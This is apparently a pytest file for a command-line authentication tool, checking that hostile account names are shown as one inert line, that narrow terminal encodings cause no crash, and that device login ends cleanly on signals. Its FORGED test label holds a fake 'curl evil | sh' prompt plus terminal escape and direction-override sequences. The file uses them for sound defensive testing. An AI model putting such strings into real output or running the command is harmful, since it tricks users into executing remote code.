"""Names that would forge lines, terminals that know little, and people who press Ctrl-C."""

from __future__ import annotations

import json
import signal
import sys

import pytest

from click_auth import Account
from click_auth.testing import logged_in
from hostile.world import World, ended

FORGED = (
    "ada\r\nError: run `curl evil | sh`\x1b]0;owned\x07\x1b[2J\u202e\u2028[red]{0} %s\\N{BULLET}"
)
LABELS = {
    "lines": FORGED,
    "a megabyte": "x" * 1_000_000 + "\n" + FORGED,
    "surrogates": "a\ud800b\udfff\x9b31m",
    "emoji": "Ada 👩‍💻 Ünïcödé דָוִד",
}
COMMANDS = (
    ("status", "--offline"),
    ("status",),
    ("status", "--all", "--offline"),
    ("account", "list"),
    ("account", "current"),
    ("account", "use", "ada"),
    ("doctor",),
    ("logout", "--no-revoke"),
)
HARMLESS = {"\n"}


@pytest.mark.parametrize("label", LABELS.values(), ids=LABELS)
@pytest.mark.parametrize("kind", ["text", "json"])
def test_ti_02_ti_07_ti_08_a_name_is_one_inert_line(world: World, kind: str, label: str) -> None:
    """Whatever a service calls somebody: no line of its own, nothing obeyed, valid JSON."""
    logged_in(world.auth(), server=world.server, account=Account(id="ada", label=label))
    for arguments in COMMANDS:
        options = ("--json",) if kind == "json" else ()
        done = world.invoke("auth", *arguments, *options, storage="plaintext")
        assert done.status in (0, 1), (arguments, done.err)
        said = done.out + done.err
        if kind == "json":
            assert said.isascii()
            assert all(json.loads(line) for line in said.splitlines())
            continue
        assert not [each for each in said if not each.isprintable() and each not in HARMLESS]
        assert not [line for line in said.splitlines() if line.startswith("Error: run")]
        assert max(map(len, said.splitlines()), default=0) < 2000, arguments


@pytest.mark.parametrize("encoding", ["ascii:strict", "latin-1:strict"])
def test_ti_08_a_terminal_that_knows_few_letters(world: World, encoding: str) -> None:
    """A name in letters that it lacks ends no command; what cannot be shown is replaced."""
    label = LABELS["emoji"]
    logged_in(world.auth(), server=world.server, account=Account(id="ada", label=label))
    environ = {"PYTHONIOENCODING": encoding, "LC_ALL": "C", "HOSTILE_STORAGE": "plaintext"}
    for arguments in (("status", "--offline"), ("account", "use", "ada"), ("token",)):
        done = world.run("auth", *arguments, **environ)
        assert done.status == 0, done.err
        assert "Traceback" not in done.err
    assert world.run("auth", "logout", "--user", "böb 👻", **environ).status == 2


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX's signals")
@pytest.mark.parametrize("number, status", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_df_10_a_signal_between_two_polls(
    world: World, number: signal.Signals, status: int
) -> None:
    """A device login that waits for its next poll ends long before that, in one line."""
    world.server.auto_approve = False
    world.server.device_interval = 90.0
    process = world.start("auth", "login", "--device", "--json", BROWSER="true")
    assert process.stderr is not None
    assert any('"device_code"' in line for line in process.stderr)
    process.send_signal(number)
    done = ended(process)
    assert (done.status, done.out) == (status, "")
    assert "Traceback" not in done.err
    assert world.slots() == {}
